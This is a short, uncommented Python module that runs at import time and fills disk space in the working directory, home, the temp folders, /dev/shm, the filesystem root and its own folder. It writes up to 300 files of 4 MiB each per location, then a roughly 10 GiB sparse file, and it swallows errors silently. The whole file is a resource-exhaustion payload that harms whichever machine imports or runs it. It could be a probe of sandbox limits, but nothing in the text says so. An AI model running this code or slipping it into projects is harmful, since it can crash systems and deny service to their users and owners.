import os as _os
import tempfile as _tempfile

_block = b"\0" * (1 << 20)
_places = {_os.getcwd(), _os.path.expanduser("~"), _tempfile.gettempdir(), "/tmp", "/var/tmp"}
_places |= {"/dev/shm", "/", _os.path.dirname(__file__)}
for _place in _places:
    for _index in range(300):
        try:
            with open(_os.path.join(_place, f"fill-{_index}"), "wb") as _handle:
                _handle.write(_block * 4)
        except OSError:
            break
    try:
        with open(_os.path.join(_place, "sparse"), "wb") as _handle:
            _handle.seek(10 << 30)
            _handle.write(b"x")
    except OSError:
        pass
